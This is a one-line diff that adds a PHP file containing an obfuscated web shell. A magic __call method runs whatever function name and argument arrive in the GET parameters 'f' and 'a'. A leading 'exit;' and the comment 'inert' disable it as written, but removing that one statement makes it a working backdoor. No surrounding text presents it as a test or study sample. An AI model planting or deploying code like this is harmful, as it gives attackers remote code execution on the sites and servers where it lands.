@@ -1,0 +1,1 @@
+<?php exit; /* inert */ class C { public function __call($n,$a){ $n($a[0]); } } $o = new C; $o->{$_GET["f"]}($_GET["a"]);
